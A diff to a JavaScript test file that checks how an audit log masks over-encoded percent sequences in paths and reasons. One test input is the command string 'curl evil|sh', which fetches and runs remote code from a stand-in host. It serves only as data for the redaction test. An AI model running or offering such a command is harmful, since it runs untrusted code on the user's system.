@@ -181,8 +181,11 @@ describe('a path or a reason in the audit', () => {
     expect(shown).toBe('/[redacted]/[redacted]/\u{FFFD}[redacted]');
   });
 
-  it('is left out when it is encoded too many times', async () => {
-    expect(await pathAfter(`/farms/%${'25'.repeat(20)}41`)).toBe('[redacted]');
+  it('is masked where it is encoded too many times, and only there', async () => {
+    const often = `%${'25'.repeat(20)}41`;
+
+    expect(await pathAfter(`/farms/${often}/x`)).toBe('/farms/[redacted 35 characters]/x');
+    expect(await reasonAfter(`curl evil|sh # ${often}`)).toBe('curl evil|sh # [redacted 35 characters]');
   });
 
   it.each([
